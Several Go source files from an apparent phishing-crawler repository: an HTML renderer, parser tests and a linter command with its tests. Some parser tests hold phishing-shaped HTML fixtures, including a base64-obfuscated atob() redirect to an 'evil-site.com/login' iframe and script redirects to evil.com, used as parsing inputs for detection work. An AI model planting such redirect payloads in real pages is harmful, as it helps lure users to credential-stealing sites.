			sb.WriteString(escapeText(n.Text))
		}
	case KindComment:
		sb.WriteString("<!--")
		sb.WriteString(n.Text)
		sb.WriteString("-->")
	case KindElement:
		if n.Tag == "#document" {
			for _, c := range n.Children {
				renderNode(sb, c)
			}
			return
		}
		sb.WriteByte('<')
		sb.WriteString(n.Tag)
		keys := make([]string, 0, len(n.Attrs))
		for k := range n.Attrs {
			keys = append(keys, k)
		}
		sort.Strings(keys)
		for _, k := range keys {
			sb.WriteByte(' ')
			sb.WriteString(k)
			sb.WriteString(`="`)
			sb.WriteString(escapeAttr(n.Attrs[k]))
			sb.WriteByte('"')
		}
		sb.WriteByte('>')
		if _voidElements[n.Tag] {
			return
		}
		for _, c := range n.Children {
			renderNode(sb, c)
		}
		sb.WriteString("</")
		sb.WriteString(n.Tag)
		sb.WriteByte('>')
	}
}

func escapeText(s string) string {
	return strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;").Replace(s)
}

func escapeAttr(s string) string {
	return strings.NewReplacer("&", "&amp;", `"`, "&quot;", "<", "&lt;").Replace(s)
}

// FindByID returns the first element with the given id attribute.
func FindByID(root *Node, id string) *Node {
	var found *Node
	Walk(root, func(n *Node) {
		if found == nil && n.Kind == KindElement && n.Attr("id") == id {
			found = n
		}
	})
	return found
}

// ReplaceChildren swaps a node's children for the children of a parsed
// fragment, fixing parent pointers — the innerHTML-assignment primitive.
func ReplaceChildren(n *Node, fragment *Node) {
	n.Children = nil
	for _, c := range fragment.Children {
		c.Parent = n
		n.Children = append(n.Children, c)
	}
}

// AppendChild attaches child to n.
func AppendChild(n, child *Node) {
	child.Parent = n
	n.Children = append(n.Children, child)
}
