package htmlx

import (
	"strings"
	"testing"
)

func TestParseSimpleDocument(t *testing.T) {
	doc := Parse(`<html><body><p>hello</p></body></html>`)
	ps := Find(doc, "p")
	if len(ps) != 1 {
		t.Fatalf("found %d <p>", len(ps))
	}
	if got := strings.TrimSpace(ps[0].InnerText()); got != "hello" {
		t.Errorf("InnerText = %q", got)
	}
}

func TestParseAttributes(t *testing.T) {
	doc := Parse(`<a href="https://x.com/p" class='big' data-token=abc123 disabled>link</a>`)
	a := Find(doc, "a")[0]
	tests := map[string]string{
		"href":       "https://x.com/p",
		"class":      "big",
		"data-token": "abc123",
		"disabled":   "",
	}
	for k, want := range tests {
		if got := a.Attr(k); got != want {
			t.Errorf("Attr(%q) = %q, want %q", k, got, want)
		}
	}
	if a.Attr("missing") != "" {
		t.Error("missing attribute should be empty")
	}
}

func TestParseEntityDecodingInAttrs(t *testing.T) {
	doc := Parse(`<a href="https://x.com/p?a=1&amp;b=2">x</a>`)
	if got := Find(doc, "a")[0].Attr("href"); got != "https://x.com/p?a=1&b=2" {
		t.Errorf("href = %q", got)
	}
}

func TestParseVoidElements(t *testing.T) {
	doc := Parse(`<div><img src="a.png"><br><input type="text"></div>`)
	div := Find(doc, "div")[0]
	if len(div.Children) != 3 {
		t.Fatalf("div children = %d, want 3 (void elements must not nest)", len(div.Children))
	}
}

func TestParseSelfClosing(t *testing.T) {
	doc := Parse(`<div><span/>after</div>`)
	div := Find(doc, "div")[0]
	if len(Find(doc, "span")) != 1 {
		t.Fatal("span not parsed")
	}
	var text string
	Walk(div, func(n *Node) {
		if n.Kind == KindText {
			text += n.Text
		}
	})
	if !strings.Contains(text, "after") {
		t.Errorf("text after self-closing tag lost: %q", text)
	}
}

func TestParseScriptRawText(t *testing.T) {
	src := `<script>if (a < b && c > d) { window.location = "https://evil.com"; }</script>`
	doc := Parse(src)
	scripts := ExtractScripts(doc)
	if len(scripts) != 1 {
		t.Fatalf("scripts = %d", len(scripts))
	}
	if !strings.Contains(scripts[0].Source, "a < b && c > d") {
		t.Errorf("script source mangled: %q", scripts[0].Source)
	}
}

func TestParseScriptWithSrc(t *testing.T) {
	doc := Parse(`<script src="https://cdn.example/fp.js"></script>`)
	scripts := ExtractScripts(doc)
	if len(scripts) != 1 || scripts[0].Src != "https://cdn.example/fp.js" {
		t.Fatalf("scripts = %+v", scripts)
	}
	if scripts[0].Source != "" {
		t.Error("external script should have no inline source")
	}
}

func TestParseComments(t *testing.T) {
	doc := Parse(`<div><!-- hidden --><p>shown</p></div>`)
	var comments []string
	Walk(doc, func(n *Node) {
		if n.Kind == KindComment {
			comments = append(comments, n.Text)
		}
	})
	if len(comments) != 1 || !strings.Contains(comments[0], "hidden") {
		t.Errorf("comments = %q", comments)
	}
}

func TestParseMalformedToleration(t *testing.T) {
	cases := []string{
		`<div><p>unclosed`,
		`<a href="broken>text`,
		`<<<<>>>`,
		`</only-closing>`,
		`<div attr=>x</div>`,
		``,
	}
	for _, src := range cases {
		doc := Parse(src) // must not panic
		if doc == nil {
			t.Errorf("Parse(%q) returned nil", src)
		}
	}
}

func TestParseDoctypeSkipped(t *testing.T) {
	doc := Parse(`<!DOCTYPE html><html><body>x</body></html>`)
	if len(Find(doc, "html")) != 1 {
		t.Error("html element lost after doctype")
	}
}

func TestExtractLinks(t *testing.T) {
	src := `
	<html><head>
	  <link href="https://cdn.x/style.css" rel="stylesheet">
	  <meta http-equiv="refresh" content="0; url=https://redirect.example/next">
	</head><body>
	  <a href="https://evil-site.com/login">click</a>
	  <img src="https://brand.example/logo.png">
	  <iframe src="https://frame.example/inner"></iframe>
	  <form action="https://collect.example/post" method="post"></form>
	  <a href="javascript:void(0)">fake</a>
	</body></html>`
	links := ExtractLinks(Parse(src))
	byURL := map[string]LinkRef{}
	for _, l := range links {
		byURL[l.URL] = l
	}
	for _, want := range []string{
		"https://cdn.x/style.css",
		"https://redirect.example/next",
		"https://evil-site.com/login",
		"https://brand.example/logo.png",
		"https://frame.example/inner",
		"https://collect.example/post",
	} {
		if _, ok := byURL[want]; !ok {
			t.Errorf("link %q not extracted (got %+v)", want, links)
		}
	}
	if js, ok := byURL["javascript:void(0)"]; !ok || !js.Inline {
		t.Errorf("javascript: link should be extracted and flagged Inline: %+v", js)
	}
	if byURL["https://brand.example/logo.png"].Tag != "img" {
		t.Errorf("logo tag = %q", byURL["https://brand.example/logo.png"].Tag)
	}
}

func TestHasPasswordInput(t *testing.T) {
	login := Parse(`<form><input type="email"><input type="PASSWORD"></form>`)
	if !HasPasswordInput(login) {
		t.Error("password input not detected")
	}
	plain := Parse(`<form><input type="text"></form>`)
	if HasPasswordInput(plain) {
		t.Error("false positive password detection")
	}
}

func TestForms(t *testing.T) {
	doc := Parse(`<form action="/a"></form><div><form action="/b"></form></div>`)
	forms := Forms(doc)
	if len(forms) != 2 {
		t.Fatalf("forms = %d", len(forms))
	}
}

func TestDecodeEntities(t *testing.T) {
	tests := []struct{ in, want string }{
		{"a&amp;b", "a&b"},
		{"&lt;script&gt;", "<script>"},
		{"&quot;x&quot;", `"x"`},
		{"no entities", "no entities"},
		{"&nbsp;", " "},
	}
	for _, tt := range tests {
		if got := DecodeEntities(tt.in); got != tt.want {
			t.Errorf("DecodeEntities(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestNestedStructureParenting(t *testing.T) {
	doc := Parse(`<div><section><p>deep</p></section></div>`)
	p := Find(doc, "p")[0]
	if p.Parent == nil || p.Parent.Tag != "section" {
		t.Errorf("p parent = %+v", p.Parent)
	}
	if p.Parent.Parent.Tag != "div" {
		t.Errorf("grandparent = %q", p.Parent.Parent.Tag)
	}
}

func TestQuotedGtInAttribute(t *testing.T) {
	doc := Parse(`<a href="https://x.com/?q=a>b" title="5 > 4">x</a>`)
	a := Find(doc, "a")[0]
	if a.Attr("href") != "https://x.com/?q=a>b" {
		t.Errorf("href = %q", a.Attr("href"))
	}
}

func TestPhishingAttachmentShape(t *testing.T) {
	// The local-redirect HTML attachment shape from Section V-B: a file
	// that loads external resources and rewrites the location via JS
	// without changing the window URL.
	src := `<html><head>
	<script>
	  var target = atob("aHR0cHM6Ly9ldmlsLXNpdGUuY29tL2xvZ2lu");
	  document.body.innerHTML = '<iframe src="' + target + '"></iframe>';
	</script>
	</head><body style="background:url(https://gyazo.example/bg.png)"></body></html>`
	doc := Parse(src)
	scripts := ExtractScripts(doc)
	if len(scripts) != 1 || !strings.Contains(scripts[0].Source, "atob") {
		t.Fatalf("scripts = %+v", scripts)
	}
}

func TestRenderParseRoundTripStable(t *testing.T) {
	// Render(Parse(x)) must be a fixed point: parsing the rendered output
	// and rendering again yields the identical string.
	cases := []string{
		`<html><head><title>T</title></head><body><p>x</p></body></html>`,
		`<div a="1" b="2"><span>s</span><img src="/x.png"></div>`,
		`<form action="/a"><input type="password" name="p"></form>`,
		`<script>if (a < b) { go(); }</script>`,
		`<div><!-- note --><p>after</p></div>`,
		`text &amp; entities <b>bold</b>`,
	}
	for _, src := range cases {
		once := Render(Parse(src))
		twice := Render(Parse(once))
		if once != twice {
			t.Errorf("round trip unstable:\n src: %q\nonce: %q\ntwice: %q", src, once, twice)
		}
	}
}

func TestRenderPreservesStructure(t *testing.T) {
	src := `<html><body><a href="https://x.com/p?a=1&amp;b=2">l</a><input type="password"></body></html>`
	doc := Parse(src)
	re := Parse(Render(doc))
	if len(Find(re, "a")) != 1 || !HasPasswordInput(re) {
		t.Errorf("structure lost: %q", Render(doc))
	}
	if Find(re, "a")[0].Attr("href") != "https://x.com/p?a=1&b=2" {
		t.Errorf("attr lost: %q", Find(re, "a")[0].Attr("href"))
	}
}

func TestFindByID(t *testing.T) {
	doc := Parse(`<div><p id="target">x</p><p id="other">y</p></div>`)
	if n := FindByID(doc, "target"); n == nil || n.InnerText() != "x" {
		t.Error("FindByID failed")
	}
	if FindByID(doc, "absent") != nil {
		t.Error("absent id should return nil")
	}
}

func TestReplaceChildrenAndAppendChild(t *testing.T) {
	doc := Parse(`<div id="host"><p>old</p></div>`)
	host := FindByID(doc, "host")
	ReplaceChildren(host, Parse(`<span>new</span>`))
	if len(host.Children) != 1 || host.Children[0].Tag != "span" {
		t.Errorf("ReplaceChildren: %+v", host.Children)
	}
	if host.Children[0].Parent != host {
		t.Error("parent pointer not fixed")
	}
	extra := &Node{Kind: KindElement, Tag: "em", Attrs: map[string]string{}}
	AppendChild(host, extra)
	if len(host.Children) != 2 || extra.Parent != host {
		t.Error("AppendChild failed")
	}
}
