package main

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func fixture(name string) string {
	return filepath.FromSlash("../../internal/lint/testdata/src/" + name)
}

// TestJSONGolden pins the machine-readable output byte for byte: analyzer,
// relative file path, position, and message for each finding, sorted.
func TestJSONGolden(t *testing.T) {
	var out, errb bytes.Buffer
	code := run([]string{"-json", fixture("jsonfix")}, &out, &errb)
	if code != 1 {
		t.Fatalf("exit code = %d, want 1 (findings present); stderr: %s", code, errb.String())
	}
	golden, err := os.ReadFile(filepath.Join("testdata", "golden.json"))
	if err != nil {
		t.Fatal(err)
	}
	if out.String() != string(golden) {
		t.Errorf("-json output differs from testdata/golden.json:\n got: %s\nwant: %s", out.String(), golden)
	}
}

func TestCleanPackageExitsZero(t *testing.T) {
	var out, errb bytes.Buffer
	code := run([]string{fixture("cleanfix")}, &out, &errb)
	if code != 0 {
		t.Fatalf("exit code = %d, want 0; stdout: %s", code, out.String())
	}
	if out.Len() != 0 {
		t.Errorf("clean package produced output: %s", out.String())
	}
}

func TestCleanPackageJSONIsEmptyArray(t *testing.T) {
	var out, errb bytes.Buffer
	code := run([]string{"-json", fixture("cleanfix")}, &out, &errb)
	if code != 0 {
		t.Fatalf("exit code = %d, want 0", code)
	}
	if got := strings.TrimSpace(out.String()); got != "[]" {
		t.Errorf("-json on a clean package = %q, want []", got)
	}
}

func TestTextOutputFindings(t *testing.T) {
	var out, errb bytes.Buffer
	code := run([]string{fixture("jsonfix")}, &out, &errb)
	if code != 1 {
		t.Fatalf("exit code = %d, want 1", code)
	}
	for _, want := range []string{
		"jsonfix.go:10:9: [determinism]",
		"jsonfix.go:10:21: [determinism]",
	} {
		if !strings.Contains(out.String(), want) {
			t.Errorf("text output missing %q:\n%s", want, out.String())
		}
	}
	if !strings.Contains(errb.String(), "1 packages, 2 findings") {
		t.Errorf("summary line missing from stderr: %s", errb.String())
	}
}

func TestListPrintsRegistry(t *testing.T) {
	var out, errb bytes.Buffer
	code := run([]string{"-list"}, &out, &errb)
	if code != 0 {
		t.Fatalf("exit code = %d, want 0", code)
	}
	for _, name := range []string{"determinism", "maprange", "ctxflow", "guarded", "resilience"} {
		if !strings.Contains(out.String(), name) {
			t.Errorf("-list output missing analyzer %q:\n%s", name, out.String())
		}
	}
}

func TestUnknownDirExitsTwo(t *testing.T) {
	var out, errb bytes.Buffer
	code := run([]string{filepath.FromSlash("testdata/no-such-dir")}, &out, &errb)
	if code != 2 {
		t.Fatalf("exit code = %d, want 2 (driver error)", code)
	}
}
