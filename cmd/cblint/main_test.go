package main

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"crawlerbox/internal/lint"
)

func fixture(name string) string {
	return filepath.FromSlash("../../internal/lint/testdata/src/" + name)
}

// TestJSONGolden pins the machine-readable output byte for byte: analyzer,
// relative file path, position, and message for each finding, sorted.
func TestJSONGolden(t *testing.T) {
	var out, errb bytes.Buffer
	code := run([]string{"-json", fixture("jsonfix")}, &out, &errb)
	if code != 1 {
		t.Fatalf("exit code = %d, want 1 (findings present); stderr: %s", code, errb.String())
	}
	golden, err := os.ReadFile(filepath.Join("testdata", "golden.json"))
	if err != nil {
		t.Fatal(err)
	}
	if out.String() != string(golden) {
		t.Errorf("-json output differs from testdata/golden.json:\n got: %s\nwant: %s", out.String(), golden)
	}
}

func TestCleanPackageExitsZero(t *testing.T) {
	var out, errb bytes.Buffer
	code := run([]string{fixture("cleanfix")}, &out, &errb)
	if code != 0 {
		t.Fatalf("exit code = %d, want 0; stdout: %s", code, out.String())
	}
	if out.Len() != 0 {
		t.Errorf("clean package produced output: %s", out.String())
	}
}

func TestCleanPackageJSONHasVersionAndEmptyFindings(t *testing.T) {
	var out, errb bytes.Buffer
	code := run([]string{"-json", fixture("cleanfix")}, &out, &errb)
	if code != 0 {
		t.Fatalf("exit code = %d, want 0", code)
	}
	var report struct {
		Version  string            `json:"cblint_version"`
		Findings []json.RawMessage `json:"findings"`
	}
	if err := json.Unmarshal(out.Bytes(), &report); err != nil {
		t.Fatalf("-json output is not valid JSON: %v\n%s", err, out.String())
	}
	if report.Version != lint.Version {
		t.Errorf("cblint_version = %q, want %q", report.Version, lint.Version)
	}
	if report.Findings == nil || len(report.Findings) != 0 {
		t.Errorf("findings = %v, want present and empty", report.Findings)
	}
}

// TestBaselineRoundTrip accepts current findings with -write-baseline, then
// verifies a -baseline run reports them as baselined and exits clean.
func TestBaselineRoundTrip(t *testing.T) {
	base := filepath.Join(t.TempDir(), "base.json")
	var out, errb bytes.Buffer
	if code := run([]string{"-write-baseline", base, fixture("jsonfix")}, &out, &errb); code != 0 {
		t.Fatalf("-write-baseline exit = %d, want 0; stderr: %s", code, errb.String())
	}
	out.Reset()
	errb.Reset()
	code := run([]string{"-baseline", base, fixture("jsonfix")}, &out, &errb)
	if code != 0 {
		t.Fatalf("baselined run exit = %d, want 0; stdout: %s stderr: %s", code, out.String(), errb.String())
	}
	if !strings.Contains(errb.String(), "0 findings") || !strings.Contains(errb.String(), "2 baselined") {
		t.Errorf("summary should report all findings baselined: %s", errb.String())
	}
}

// TestSARIFOutput checks the -sarif file parses and carries the findings.
func TestSARIFOutput(t *testing.T) {
	path := filepath.Join(t.TempDir(), "out.sarif")
	var out, errb bytes.Buffer
	if code := run([]string{"-sarif", path, fixture("jsonfix")}, &out, &errb); code != 1 {
		t.Fatalf("exit code = %d, want 1; stderr: %s", code, errb.String())
	}
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	var doc struct {
		Version string `json:"version"`
		Runs    []struct {
			Results []struct {
				RuleID string `json:"ruleId"`
			} `json:"results"`
		} `json:"runs"`
	}
	if err := json.Unmarshal(data, &doc); err != nil {
		t.Fatalf("SARIF output is not valid JSON: %v", err)
	}
	if doc.Version != "2.1.0" {
		t.Errorf("SARIF version = %q, want 2.1.0", doc.Version)
	}
	if len(doc.Runs) != 1 || len(doc.Runs[0].Results) != 2 {
		t.Fatalf("SARIF runs/results = %+v, want 1 run with 2 results", doc.Runs)
	}
	if doc.Runs[0].Results[0].RuleID != "determinism" {
		t.Errorf("ruleId = %q, want determinism", doc.Runs[0].Results[0].RuleID)
	}
}

// TestSuggestPrintsPasteableIgnores checks the suppression helper output.
func TestSuggestPrintsPasteableIgnores(t *testing.T) {
	var out, errb bytes.Buffer
	if code := run([]string{"-suggest", fixture("jsonfix")}, &out, &errb); code != 1 {
		t.Fatalf("exit code = %d, want 1", code)
	}
	if !strings.Contains(out.String(), "//cblint:ignore determinism ") {
		t.Errorf("-suggest output missing pasteable directive:\n%s", out.String())
	}
}

// TestFactCachePersists checks -factcache writes a reloadable cache file.
func TestFactCachePersists(t *testing.T) {
	path := filepath.Join(t.TempDir(), "facts.json")
	var out, errb bytes.Buffer
	if code := run([]string{"-factcache", path, fixture("cleanfix")}, &out, &errb); code != 0 {
		t.Fatalf("exit code = %d, want 0; stderr: %s", code, errb.String())
	}
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("fact cache not written: %v", err)
	}
	if !strings.Contains(string(data), lint.Version) {
		t.Errorf("fact cache missing version stamp:\n%s", data)
	}
}

func TestTextOutputFindings(t *testing.T) {
	var out, errb bytes.Buffer
	code := run([]string{fixture("jsonfix")}, &out, &errb)
	if code != 1 {
		t.Fatalf("exit code = %d, want 1", code)
	}
	for _, want := range []string{
		"jsonfix.go:10:9: [determinism]",
		"jsonfix.go:10:21: [determinism]",
	} {
		if !strings.Contains(out.String(), want) {
			t.Errorf("text output missing %q:\n%s", want, out.String())
		}
	}
	if !strings.Contains(errb.String(), "1 packages, 2 findings") {
		t.Errorf("summary line missing from stderr: %s", errb.String())
	}
}

func TestListPrintsRegistry(t *testing.T) {
	var out, errb bytes.Buffer
	code := run([]string{"-list"}, &out, &errb)
	if code != 0 {
		t.Fatalf("exit code = %d, want 0", code)
	}
	for _, name := range []string{"determinism", "maprange", "ctxflow", "guarded", "resilience"} {
		if !strings.Contains(out.String(), name) {
			t.Errorf("-list output missing analyzer %q:\n%s", name, out.String())
		}
	}
}

func TestUnknownDirExitsTwo(t *testing.T) {
	var out, errb bytes.Buffer
	code := run([]string{filepath.FromSlash("testdata/no-such-dir")}, &out, &errb)
	if code != 2 {
		t.Fatalf("exit code = %d, want 2 (driver error)", code)
	}
}
