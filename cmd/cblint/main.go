// Command cblint runs the repository's invariant linter (internal/lint)
// over package directories and reports findings with file:line:col
// positions. It is the static-analysis leg of `make check`.
//
// Usage:
//
//	cblint [-json] [-list] [pattern ...]
//
// A pattern is a directory, or a directory followed by /... to walk the
// subtree (the default is ./...). Exit status is 0 when clean, 1 when any
// unsuppressed finding exists, 2 on a driver error.
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"go/build"
	"io"
	"os"
	"path/filepath"
	"strings"

	"crawlerbox/internal/lint"
)

func main() {
	os.Exit(run(os.Args[1:], os.Stdout, os.Stderr))
}

func run(args []string, stdout, stderr io.Writer) int {
	fs := flag.NewFlagSet("cblint", flag.ContinueOnError)
	fs.SetOutput(stderr)
	jsonOut := fs.Bool("json", false, "emit findings as a JSON array")
	list := fs.Bool("list", false, "print the analyzer registry and exit")
	if err := fs.Parse(args); err != nil {
		return 2
	}
	if *list {
		for _, a := range lint.Registry() {
			fmt.Fprintf(stdout, "%-12s %s\n", a.Name(), a.Doc())
		}
		return 0
	}
	patterns := fs.Args()
	if len(patterns) == 0 {
		patterns = []string{"./..."}
	}
	dirs, err := expandPatterns(patterns)
	if err != nil {
		fmt.Fprintln(stderr, "cblint:", err)
		return 2
	}
	root := moduleRoot()
	loader := lint.NewLoader(root)
	analyzers := lint.Registry()
	var diags []lint.Diagnostic
	packages, suppressed := 0, 0
	for _, dir := range dirs {
		pkg, err := loader.Load(dir)
		if err != nil {
			if _, nogo := err.(*build.NoGoError); nogo {
				continue
			}
			fmt.Fprintln(stderr, "cblint:", err)
			return 2
		}
		packages++
		res := lint.RunPackage(pkg, analyzers)
		diags = append(diags, res.Diagnostics...)
		suppressed += res.Suppressed
	}
	relativize(diags)
	lint.SortDiagnostics(diags)
	if *jsonOut {
		enc := json.NewEncoder(stdout)
		enc.SetIndent("", "  ")
		if diags == nil {
			diags = []lint.Diagnostic{}
		}
		if err := enc.Encode(diags); err != nil {
			fmt.Fprintln(stderr, "cblint:", err)
			return 2
		}
	} else {
		for _, d := range diags {
			fmt.Fprintln(stdout, d)
		}
		fmt.Fprintf(stderr, "cblint: %d packages, %d findings, %d suppressed\n",
			packages, len(diags), suppressed)
	}
	if len(diags) > 0 {
		return 1
	}
	return 0
}

// moduleRoot walks up from the working directory to the nearest go.mod.
func moduleRoot() string {
	dir, err := os.Getwd()
	if err != nil {
		return "."
	}
	for d := dir; ; {
		if _, err := os.Stat(filepath.Join(d, "go.mod")); err == nil {
			return d
		}
		parent := filepath.Dir(d)
		if parent == d {
			return dir
		}
		d = parent
	}
}

// relativize rewrites absolute finding paths relative to the working
// directory, so output (and golden files) are machine-independent.
func relativize(diags []lint.Diagnostic) {
	cwd, err := os.Getwd()
	if err != nil {
		return
	}
	for i := range diags {
		if rel, err := filepath.Rel(cwd, diags[i].File); err == nil {
			diags[i].File = filepath.ToSlash(rel)
		}
	}
}

// expandPatterns resolves the command-line patterns into package
// directories, walking /... subtrees and skipping testdata, hidden, and
// underscore directories the way the go tool does.
func expandPatterns(patterns []string) ([]string, error) {
	var dirs []string
	seen := map[string]bool{}
	add := func(dir string) {
		if !seen[dir] {
			seen[dir] = true
			dirs = append(dirs, dir)
		}
	}
	for _, p := range patterns {
		if rest, ok := strings.CutSuffix(p, "/..."); ok {
			if rest == "" || rest == "." {
				rest = "."
			}
			err := filepath.WalkDir(rest, func(path string, d os.DirEntry, err error) error {
				if err != nil {
					return err
				}
				if !d.IsDir() {
					return nil
				}
				name := d.Name()
				if path != rest && (name == "testdata" || strings.HasPrefix(name, ".") || strings.HasPrefix(name, "_")) {
					return filepath.SkipDir
				}
				if hasGoFiles(path) {
					add(path)
				}
				return nil
			})
			if err != nil {
				return nil, err
			}
			continue
		}
		if !hasGoFiles(p) {
			return nil, fmt.Errorf("no Go files in %s", p)
		}
		add(p)
	}
	return dirs, nil
}

// hasGoFiles reports whether dir directly contains a non-test Go file.
func hasGoFiles(dir string) bool {
	entries, err := os.ReadDir(dir)
	if err != nil {
		return false
	}
	for _, e := range entries {
		name := e.Name()
		if !e.IsDir() && strings.HasSuffix(name, ".go") && !strings.HasSuffix(name, "_test.go") {
			return true
		}
	}
	return false
}
