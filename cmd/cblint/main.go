// Command cblint runs the repository's invariant linter (internal/lint)
// over package directories and reports findings with file:line:col
// positions. It is the static-analysis leg of `make check`.
//
// Usage:
//
//	cblint [flags] [pattern ...]
//
// A pattern is a directory, or a directory followed by /... to walk the
// subtree (the default is ./...). Flags:
//
//	-json            emit findings as a JSON object (analyzer version,
//	                 findings with file content hashes)
//	-list            print the analyzer registry and exit
//	-baseline FILE   load accepted findings; only NEW findings fail the run
//	-write-baseline FILE
//	                 snapshot current findings as the baseline and exit
//	-sarif FILE      additionally write findings as SARIF 2.1.0 ("-" = stdout)
//	-suggest         print ready-to-paste //cblint:ignore lines per finding
//	-factcache FILE  persist cross-package facts keyed by content hash
//	-parallel N      analyze N packages concurrently (default GOMAXPROCS)
//
// Exit status is 0 when clean (or all findings baselined), 1 when any new
// unsuppressed finding exists, 2 on a driver error.
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"go/build"
	"io"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"sync"

	"crawlerbox/internal/lint"
)

func main() {
	os.Exit(run(os.Args[1:], os.Stdout, os.Stderr))
}

// jsonReport is the -json output shape. The version stamp and per-finding
// content hashes make reports (and baselines derived from them) comparable
// across checkouts: identical sources produce identical reports no matter
// where the repo lives on disk.
type jsonReport struct {
	Version  string            `json:"cblint_version"`
	Findings []lint.Diagnostic `json:"findings"`
}

func run(args []string, stdout, stderr io.Writer) int {
	fs := flag.NewFlagSet("cblint", flag.ContinueOnError)
	fs.SetOutput(stderr)
	jsonOut := fs.Bool("json", false, "emit findings as a JSON object with version and file hashes")
	list := fs.Bool("list", false, "print the analyzer registry and exit")
	baselinePath := fs.String("baseline", "", "baseline file of accepted findings; only new findings fail")
	writeBaseline := fs.String("write-baseline", "", "write current findings to this baseline file and exit")
	sarifPath := fs.String("sarif", "", "write findings as SARIF 2.1.0 to this file (\"-\" for stdout)")
	suggest := fs.Bool("suggest", false, "print ready-to-paste //cblint:ignore suppressions per finding")
	factCache := fs.String("factcache", "", "cache cross-package facts in this file, keyed by content hash")
	parallel := fs.Int("parallel", runtime.GOMAXPROCS(0), "number of packages analyzed concurrently")
	if err := fs.Parse(args); err != nil {
		return 2
	}
	if *list {
		for _, a := range lint.Registry() {
			fmt.Fprintf(stdout, "%-12s %s\n", a.Name(), a.Doc())
		}
		return 0
	}
	patterns := fs.Args()
	if len(patterns) == 0 {
		patterns = []string{"./..."}
	}
	dirs, err := expandPatterns(patterns)
	if err != nil {
		fmt.Fprintln(stderr, "cblint:", err)
		return 2
	}
	root := moduleRoot()
	loader := lint.NewLoader(root)
	facts := lint.NewFacts(loader)
	if *factCache != "" {
		facts.LoadCache(*factCache)
	}

	// Load sequentially — the loader's dependency cache is not safe for
	// concurrent use — and precompute each package's facts so the parallel
	// phase below only reads memoized summaries.
	var pkgs []*lint.Package
	for _, dir := range dirs {
		pkg, err := loader.Load(dir)
		if err != nil {
			if _, nogo := err.(*build.NoGoError); nogo {
				continue
			}
			fmt.Fprintln(stderr, "cblint:", err)
			return 2
		}
		facts.Record(pkg)
		pkgs = append(pkgs, pkg)
	}

	analyzers := lint.Registry()
	results := make([]lint.Result, len(pkgs))
	workers := *parallel
	if workers < 1 {
		workers = 1
	}
	var wg sync.WaitGroup
	work := make(chan int)
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := range work {
				results[i] = lint.RunPackage(pkgs[i], analyzers, facts)
			}
		}()
	}
	for i := range pkgs {
		work <- i
	}
	close(work)
	wg.Wait()

	var diags []lint.Diagnostic
	suppressed := 0
	for _, res := range results {
		diags = append(diags, res.Diagnostics...)
		suppressed += res.Suppressed
	}
	stampHashes(diags)
	relativize(diags)
	lint.SortDiagnostics(diags)

	if *factCache != "" {
		if err := facts.SaveCache(); err != nil {
			fmt.Fprintln(stderr, "cblint: saving fact cache:", err)
		}
	}

	if *writeBaseline != "" {
		if err := lint.NewBaseline(diags).Write(*writeBaseline); err != nil {
			fmt.Fprintln(stderr, "cblint:", err)
			return 2
		}
		fmt.Fprintf(stderr, "cblint: wrote baseline with %d findings to %s\n",
			len(diags), *writeBaseline)
		return 0
	}

	accepted := 0
	if *baselinePath != "" {
		base, err := lint.LoadBaseline(*baselinePath)
		if err != nil {
			fmt.Fprintln(stderr, "cblint:", err)
			return 2
		}
		if base.Version != lint.Version {
			fmt.Fprintf(stderr, "cblint: baseline written by version %s, running %s — regenerate with -write-baseline\n",
				base.Version, lint.Version)
		}
		var old []lint.Diagnostic
		diags, old = base.Filter(diags)
		accepted = len(old)
	}

	if *sarifPath != "" {
		out := stdout
		if *sarifPath != "-" {
			f, err := os.Create(*sarifPath)
			if err != nil {
				fmt.Fprintln(stderr, "cblint:", err)
				return 2
			}
			defer f.Close()
			out = f
		}
		if err := lint.WriteSARIF(out, diags); err != nil {
			fmt.Fprintln(stderr, "cblint:", err)
			return 2
		}
	}

	switch {
	case *jsonOut:
		report := jsonReport{Version: lint.Version, Findings: diags}
		if report.Findings == nil {
			report.Findings = []lint.Diagnostic{}
		}
		enc := json.NewEncoder(stdout)
		enc.SetIndent("", "  ")
		if err := enc.Encode(report); err != nil {
			fmt.Fprintln(stderr, "cblint:", err)
			return 2
		}
	default:
		for _, d := range diags {
			fmt.Fprintln(stdout, d)
			if *suggest {
				fmt.Fprintf(stdout, "\t%s:%d: paste above the line:\n", d.File, d.Line)
				fmt.Fprintf(stdout, "\t//cblint:ignore %s <why this site is safe>\n", d.Analyzer)
			}
		}
		fmt.Fprintf(stderr, "cblint: %d packages, %d findings, %d suppressed",
			len(pkgs), len(diags), suppressed)
		if *baselinePath != "" {
			fmt.Fprintf(stderr, ", %d baselined", accepted)
		}
		fmt.Fprintln(stderr)
	}
	if len(diags) > 0 {
		return 1
	}
	return 0
}

// stampHashes fills each finding's FileHash from the file contents (paths
// are still absolute here). Hashes are memoized per file.
func stampHashes(diags []lint.Diagnostic) {
	hashes := map[string]string{}
	for i := range diags {
		path := diags[i].File
		h, ok := hashes[path]
		if !ok {
			h = lint.HashFile(path)
			hashes[path] = h
		}
		diags[i].FileHash = h
	}
}

// moduleRoot walks up from the working directory to the nearest go.mod.
func moduleRoot() string {
	dir, err := os.Getwd()
	if err != nil {
		return "."
	}
	for d := dir; ; {
		if _, err := os.Stat(filepath.Join(d, "go.mod")); err == nil {
			return d
		}
		parent := filepath.Dir(d)
		if parent == d {
			return dir
		}
		d = parent
	}
}

// relativize rewrites absolute finding paths relative to the working
// directory, so output (and golden files) are machine-independent.
func relativize(diags []lint.Diagnostic) {
	cwd, err := os.Getwd()
	if err != nil {
		return
	}
	for i := range diags {
		if rel, err := filepath.Rel(cwd, diags[i].File); err == nil {
			diags[i].File = filepath.ToSlash(rel)
		}
	}
}

// expandPatterns resolves the command-line patterns into package
// directories, walking /... subtrees and skipping testdata, hidden, and
// underscore directories the way the go tool does.
func expandPatterns(patterns []string) ([]string, error) {
	var dirs []string
	seen := map[string]bool{}
	add := func(dir string) {
		if !seen[dir] {
